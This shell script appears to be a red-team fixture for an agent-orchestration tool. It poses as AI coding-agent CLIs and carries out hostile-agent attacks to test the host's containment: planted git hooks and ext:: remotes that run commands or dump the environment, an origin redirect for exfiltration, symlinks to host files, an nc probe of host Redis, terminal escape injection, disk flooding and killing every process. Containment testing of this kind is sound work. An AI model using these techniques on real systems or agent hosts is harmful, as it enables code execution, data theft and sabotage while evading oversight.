#!/bin/sh
# agentq's red-team agent: an agent that does what a hostile (or hijacked) agent
# would do to the workspace, to prove the worker host never trusts it. Installed
# as codex, claude, gemini and coderabbit in agentq-redteam:latest.
# Each `@redteam VERB ARGS` line in its arguments (or its standard input) is
# one attack:
#
#   @redteam commit                    commit a change (so there is work to push)
#   @redteam hooks MARKER              git hooks and config that would run
#                                      `touch MARKER` if git ran them on the host
#   @redteam exfil URL                 point origin (and insteadOf) at URL
#   @redteam symlink-blocked PATH      BLOCKED.md -> PATH (a host file)
#   @redteam plant-meta VICTIM         symlinks to VICTIM where the worker writes
#   @redteam commit-answer-link VICTIM commit ANSWER.md -> VICTIM
#   @redteam fifo-blocked              BLOCKED.md is a FIFO
#   @redteam redis PORT                try to reach Redis on the host
#   @redteam git-add-all               `git add -A`, print what was staged, commit
#   @redteam whoami                    print uid=N
#   @redteam fill MB                   write an MB MiB file into the workspace
#   @redteam flood MB                  print MB MiB of output
#   @redteam block QUESTION            block, unless an answer was given
#   @redteam sleep N                   sleep N seconds
#   @redteam flood-line MB             print MB MiB of output on one line
#   @redteam escapes                   print terminal escapes (OSC 52, CSI 2J,
#                                      a \r rewrite, C1 CSI) in the output
#   @redteam block-escapes             BLOCKED.md with the same escapes
#   @redteam commit-escapes            commit with the escapes in its subject
#   @redteam commit-subject KB         commit with a KB KiB one-line subject
#   @redteam commit-file FILE TEXT     write TEXT to FILE and commit it
#   @redteam write FILE TEXT           write TEXT to FILE, not committed
#   @redteam rm FILE                   delete FILE, the deletion not committed
#   @redteam commit-zeros MB           commit an MB MiB file of zeros (a few KiB
#                                      of objects) never written to the tree
#   @redteam many-files N              make N empty files (10 000 per directory)
#   @redteam fifo-head                 commit, then make .git/HEAD a FIFO
#   @redteam orphan-commit             commit on a new root (a history rewrite)
#   @redteam signal-all                SIGSTOP every process it can see (-1 and
#                                      each pid), then SIGKILL pid 1 and every
#                                      process that is not its own ancestor
#   @redteam chmod-000 MB              an MB MiB file in a directory made mode 000
#   @redteam summary-link PATH         the summary file ($AGENTQ_SUMMARY_FILE) -> PATH
#   @redteam summary-fifo              the summary file is a FIFO
#   @redteam summary-big MB            the summary file is MB MiB of `s`
#   @redteam out-fill MB               an MB MiB file elsewhere in /agentq-out
set -f
echo "agentq-redteam: $(basename "$0")"
# The prompt may come on stdin too (codex `exec -`, claude `-p`): read it
# when stdin is not a terminal, into /tmp (it may be megabytes).
stdin_copy=/tmp/agentq-redteam-stdin.$$
if [ ! -t 0 ] && : > "$stdin_copy" 2>/dev/null; then
  cat > "$stdin_copy"
else
  stdin_copy=/dev/null
fi
# Several directives may share one line: each `@redteam ` starts a new one.
directives=$({ for a in "$@"; do printf '%s\n' "$a"; done; cat "$stdin_copy"; } |
  awk '{ n = split($0, part, "@redteam "); for (i = 2; i <= n; i++) { sub(/ +$/, "", part[i]); print "@redteam " part[i] } }')
commit() {
  echo "change $(date +%s) $1" >> redteam-change.txt
  git add redteam-change.txt && git commit -q -m "redteam: $1" || echo "commit failed"
}
# Terminal escapes: OSC 52 (clipboard), OSC 0 (title), CSI 2J (clear), a
# carriage-return rewrite and a C1 CSI (U+009B, UTF-8 C2 9B).
escapes() {
  printf 'ESC-PAYLOAD \033]52;c;cHduZWQ=\007\033]0;pwned-title\007\033[2J state: blocked\rstate: completed \302\2332J ESC-END\n'
}
hook_body() { printf '#!/bin/sh\nmkdir -p "$(dirname "%s")"; env > "%s"; exit 0\n' "$1" "$1"; }
printf '%s\n' "$directives" | while IFS= read -r line; do
  [ -n "$line" ] || continue
  rest=${line#@redteam }
  verb=${rest%% *}
  arg=${rest#"$verb"}
  arg=${arg# }
  case "$verb" in
    commit) commit commit ;;
    hooks)
      commit hooks
      for h in pre-push post-checkout reference-transaction post-merge pre-auto-gc post-rewrite; do
        hook_body "$arg.$h" > ".git/hooks/$h"
        chmod +x ".git/hooks/$h"
      done
      mkdir -p /workspace/.redteam-hooks
      for h in pre-push post-checkout reference-transaction; do
        hook_body "$arg.path-$h" > "/workspace/.redteam-hooks/$h"
        chmod +x "/workspace/.redteam-hooks/$h"
      done
      hook_body "$arg.fsmonitor" > /workspace/.redteam-fsmonitor
      chmod +x /workspace/.redteam-fsmonitor
      git config core.hooksPath /workspace/.redteam-hooks
      git config core.fsmonitor /workspace/.redteam-fsmonitor
      git config remote.origin.receivepack "touch $arg.receivepack; git-receive-pack"
      git config remote.origin.uploadpack "touch $arg.uploadpack; git-upload-pack"
      git config core.sshCommand "touch $arg.ssh"
      git config protocol.ext.allow always
      git config remote.origin.url "ext::sh -c touch% $arg.ext"
      git config remote.origin.pushurl "ext::sh -c touch% $arg.ext-push"
      echo "planted hooks for $arg"
      ;;
    exfil)
      commit exfil
      old=$(git config remote.origin.url || true)
      git config remote.origin.url "$arg"
      git config remote.origin.pushurl "$arg"
      [ -n "$old" ] && git config "url.$arg.insteadOf" "$old"
      git config --global "url.$arg.insteadOf" "http://" 2>/dev/null || true
      echo "origin now $arg"
      ;;
    symlink-blocked)
      rm -f BLOCKED.md
      ln -s "$arg" BLOCKED.md
      echo "BLOCKED.md -> $arg"
      ;;
    plant-meta)
      mkdir -p /workspace/.meta 2>/dev/null
      for n in agent-codex.log agent-claude.log qa.log qa-1.log qa-2.log prompt.md ANSWER.md status.json; do
        rm -f "/workspace/.meta/$n"
        ln -s "$arg" "/workspace/.meta/$n" 2>/dev/null && echo "planted .meta/$n"
      done
      for p in 1 2 3 4 5 6 7 8 9 10; do ln -s "$arg" "/workspace/.meta/.prompt.md.tmp-$p" 2>/dev/null; done
      rm -f ANSWER.md status.json
      ln -s "$arg" ANSWER.md
      ln -s "$arg" /workspace/status.json 2>/dev/null
      echo "planted ANSWER.md"
      ;;
    commit-answer-link)
      rm -f ANSWER.md
      ln -s "$arg" ANSWER.md
      git add ANSWER.md && git commit -q -m "redteam: answer link" && echo "committed ANSWER.md -> $arg"
      ;;
    fifo-blocked)
      rm -f BLOCKED.md
      mkfifo BLOCKED.md && echo "BLOCKED.md is a FIFO"
      ;;
    redis)
      for h in host.docker.internal $(ip route 2>/dev/null | awk '/default/ {print $3}'); do
        echo "resolve $h: $(getent hosts "$h" 2>/dev/null || nslookup "$h" 2>/dev/null | tail -1)"
        reply=$(printf 'PING\r\nKEYS *\r\nQUIT\r\n' | nc -w 2 "$h" "$arg" 2>&1 | tr '\r\n' '  ')
        echo "redis-reply($h): $reply"
      done
      ;;
    git-add-all)
      git add -A
      git status --porcelain | sed 's/^/staged: /'
      git commit -q -m "redteam: add all" || echo "nothing to commit"
      ;;
    whoami) echo "uid=$(id -u) gid=$(id -g)" ;;
    fill) dd if=/dev/zero of=redteam-big.bin bs=1048576 count="$arg" 2>/dev/null && echo "filled $arg MiB" ;;
    flood)
      echo "FLOOD-START"
      i=0
      while [ "$i" -lt "$arg" ]; do
        yes 'flood flood flood flood flood flood flood flood flood flood flood flood' | head -c 1048576
        i=$((i + 1))
      done
      echo
      echo "FLOOD-END"
      ;;
    block)
      if [ -s "${AGENTQ_ANSWER_FILE:-/agentq/ANSWER.md}" ] || { [ -f ANSWER.md ] && [ ! -L ANSWER.md ]; }; then
        echo "answered"
      else
        printf '%s\n' "$arg" > BLOCKED.md
        echo "blocked: $arg"
      fi
      ;;
    sleep) sleep "$arg" ;;
    flood-line)
      echo "FLOOD-START"
      i=0
      while [ "$i" -lt "$arg" ]; do
        head -c 1048576 /dev/zero | tr '\0' 'x'
        i=$((i + 1))
      done
      echo
      echo "FLOOD-END"
      ;;
    escapes) escapes ;;
    block-escapes) escapes > BLOCKED.md && echo "blocked with escapes" ;;
    commit-escapes)
      echo "escapes $(date +%s)" >> redteam-change.txt
      git add redteam-change.txt && git commit -q -m "$(escapes)" || echo "commit failed"
      ;;
    commit-subject)
      echo "long $(date +%s)" >> redteam-change.txt
      head -c $((arg * 1024)) /dev/zero | tr '\0' 's' > .git/redteam-subject
      git add redteam-change.txt && git commit -q -F .git/redteam-subject || echo "commit failed"
      ;;
    commit-file)
      f=${arg%% *}
      printf '%s' "${arg#"$f" }" > "$f"
      git add -- "$f" && git commit -q -m "redteam: commit $f" && echo "committed $f"
      ;;
    write)
      f=${arg%% *}
      printf '%s' "${arg#"$f" }" > "$f" && echo "wrote $f (not committed)"
      ;;
    rm) rm -f -- "$arg" && echo "removed $arg (not committed)" ;;
    commit-zeros)
      # Straight into git's object store (a few KiB compressed): the file is
      # never in the working tree, so the run's tree watch cannot meet it and
      # only a checkout of the commit (QA's) would write it all.
      blob=$(head -c "$((arg * 1048576))" /dev/zero | git hash-object -w --stdin) &&
        git update-index --add --cacheinfo "100644,$blob,redteam-zeros.bin" &&
        git commit -q -m "redteam: $arg MiB of zeros" && echo "committed $arg MiB of zeros"
      ;;
    many-files)
      mkdir -p redteam-many
      made=0
      while [ "$made" -lt "$arg" ]; do
        d="redteam-many/d$made"
        mkdir -p "$d"
        n=$((arg - made)); [ "$n" -gt 10000 ] && n=10000
        (cd "$d" && seq 1 "$n" | xargs touch) || break
        made=$((made + n))
      done
      echo "made $made files"
      ;;
    fifo-head)
      commit fifo-head
      rm -f .git/HEAD && mkfifo .git/HEAD && echo ".git/HEAD is a FIFO"
      ;;
    orphan-commit)
      git checkout -q --orphan "redteam-orphan-$(date +%s)"
      echo "orphan $(date +%s)" > redteam-orphan.txt
      git add -A && git commit -q -m "redteam: rewritten history" && echo "committed on a new root"
      ;;
    signal-all)
      read -r me _ < /proc/self/stat
      keep=" $me "
      p=$me
      while [ "${p:-0}" -gt 1 ]; do
        p=$(awk '/^PPid:/ {print $2}' "/proc/$p/status" 2>/dev/null)
        keep="$keep${p:-0} "
      done
      echo "signal-all: me $me, ancestors:$keep"
      kill -STOP -1 2>/dev/null && echo "kill -STOP -1: sent"
      for d in /proc/[0-9]*; do
        pid=${d#/proc/}
        [ "$pid" = "$me" ] && continue
        kill -STOP "$pid" 2>/dev/null && echo "SIGSTOP $pid: sent"
      done
      kill -KILL 1 2>/dev/null && echo "SIGKILL 1: sent"
      for d in /proc/[0-9]*; do
        pid=${d#/proc/}
        case "$keep" in *" $pid "*) continue ;; esac
        kill -KILL "$pid" 2>/dev/null && echo "SIGKILL $pid: sent"
      done
      echo "signal-all done"
      ;;
    chmod-000)
      # The file is opened before the directory is closed and written after,
      # so the directory is mode 000 before the tree grows: the worker's size
      # check, whenever it runs, sees a closed directory (never a half-made
      # attack killed before its chmod).
      mkdir -p redteam-locked
      exec 3>redteam-locked/big
      chmod 000 redteam-locked && echo "redteam-locked is mode 000 ($arg MiB to be written inside)"
      dd if=/dev/zero bs=1048576 count="$arg" >&3 2>/dev/null
      exec 3>&-
      ;;
    summary-link)
      summary=${AGENTQ_SUMMARY_FILE:-/agentq-out/summary.md}
      rm -f "$summary"
      ln -s "$arg" "$summary" && echo "summary file -> $arg"
      ;;
    summary-fifo)
      summary=${AGENTQ_SUMMARY_FILE:-/agentq-out/summary.md}
      rm -f "$summary"
      mkfifo "$summary" && echo "summary file is a FIFO"
      ;;
    summary-big)
      summary=${AGENTQ_SUMMARY_FILE:-/agentq-out/summary.md}
      head -c $((arg * 1048576)) /dev/zero | tr '\0' s > "$summary" && echo "summary file is $arg MiB"
      ;;
    out-fill)
      dd if=/dev/zero of=/agentq-out/redteam-big.bin bs=1048576 count="$arg" 2>/dev/null && echo "filled /agentq-out with $arg MiB"
      ;;
  esac
done
exit 0
